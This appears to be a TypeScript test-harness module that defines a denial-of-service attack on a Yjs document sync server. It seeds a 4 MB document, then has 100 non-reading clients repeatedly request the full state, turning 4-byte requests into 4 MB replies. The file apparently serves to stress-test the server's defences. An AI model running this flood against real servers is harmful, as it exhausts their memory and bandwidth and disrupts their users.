import * as Y from "yjs";
import { encodeRaw } from "../../../support/raw-messages.ts";
import type { Attack } from "../attack.ts";
import { frame, repeated } from "../raw-socket.ts";

const ASKS = repeated(frame(encodeRaw({ type: "step1", stateVector: Uint8Array.of(0) })), 50);

/** An empty client is answered with the whole document: here 4 MB, for 4 bytes. */
export const attack: Attack = {
  name: "state vectors from clients that do not read",
  connections: [100],
  prepare: async (target) => {
    const doc = new Y.Doc();
    for (let i = 0; i < 64; i++) doc.getMap("map").set(`key ${i}`, "x".repeat(64 * 1024));
    const author = await target.connect();
    author.send(encodeRaw({ type: "update", update: Y.encodeStateAsUpdate(doc) }));
    await author.drained();
  },
  run: async (target) => {
    const clients = await target.connectAll();
    for (const client of clients) client.stopReading();
    while (!target.over) {
      for (const client of clients) client.write(ASKS);
      await target.pause(100);
    }
  },
};
